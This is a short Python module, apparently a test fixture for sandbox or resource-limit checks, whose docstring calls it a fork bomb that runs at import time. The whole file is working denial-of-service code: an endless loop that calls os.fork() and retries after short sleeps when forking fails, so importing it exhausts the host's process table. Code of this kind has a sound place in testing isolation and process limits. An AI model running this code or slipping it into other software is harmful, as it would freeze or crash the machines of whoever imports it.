"""Heavy: a fork bomb at import time; every process keeps forking and never exits."""

import os as _os
import time as _time

while True:
    try:
        _os.fork()
    except OSError:
        _time.sleep(0.01)
